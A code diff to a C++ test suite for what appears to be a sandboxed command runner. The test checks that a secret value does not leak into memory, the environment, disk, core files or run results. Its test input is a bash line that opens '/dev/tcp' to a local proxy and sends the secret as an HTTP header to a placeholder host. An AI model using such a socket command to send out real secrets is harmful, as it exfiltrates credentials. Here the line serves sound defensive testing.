@@ -334,12 +334,31 @@ private Q_SLOTS:
         open();
         const MaskedValue value;
         add(u"KEY"_s, value.value());
-        const auto live = m_engine->start(request("bash", "echo \"$KEY\"; read line", {{u"KEY"_s, {}, false}}));
+        RunRequest wanted =
+            request("bash",
+                    "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://a.invalid/ HTTP/1.1\\r\\nX-Key: "
+                    "%s\\r\\n' \"$KEY\" >&3; echo \"$KEY\"; read line",
+                    {{u"KEY"_s, {}, false}});
+        wanted.policy.allow = {u"example.org"_s}; // so that there is an egress, too
+        const auto live = m_engine->start(std::move(wanted));
         QVERIFY(QTest::qWaitFor([&] { return live->output(0, 100).next > 0; }, 10000));
         const SecretValue clear = value.value();
         const ScrubPlan plan({{u"KEY"_s, clear.view()}});
-        QVERIFY(descendants().size() >= 2);
+        QVERIFY(descendants().size() >= 3);
         QVERIFY(!isInCommandOrEnvironment(plan));
+#ifndef __SANITIZE_ADDRESS__
+        // The launcher handed it on, as a descriptor. Pid 1 and the snippet are the run, and egress has what the run sends through it.
+        qsizetype looked = 0;
+        for (const QByteArray &pid : descendants()) {
+            const QByteArray name = fileContent("/proc/" + pid + "/comm").trimmed();
+            qint64 read = 0;
+            if (name != "glovebox-spawne")
+                continue;
+            QVERIFY2(!isInMemory(value, pid, &read), name);
+            looked += read > 0;
+        }
+        QCOMPARE(looked, 1);
+#endif
         QVERIFY(!isOnDisk(plan, m_home->path()));
         // No core file of whoever has it: the limit was lowered for good.
         for (const QByteArray &pid : descendants())
@@ -347,8 +366,10 @@ private Q_SLOTS:
                 fileContent("/proc/" + pid + "/limits").contains("Max core file size        1                    1 "),
                 fileContent("/proc/" + pid + "/comm") + fileContent("/proc/" + pid + "/limits"));
         live->closeInput();
-        live->wait();
+        const auto result = live->wait();
+        QVERIFY(!isInCommandOrEnvironment(plan));
         QVERIFY(!isOnDisk(plan, m_home->path()));
+        QVERIFY(!plan.finds(QJsonDocument(toJson(*result)).toJson()) && !plan.finds(entries(result->id)));
     }
 
     void aValueLeftInACopyOfAFolderIsTold()
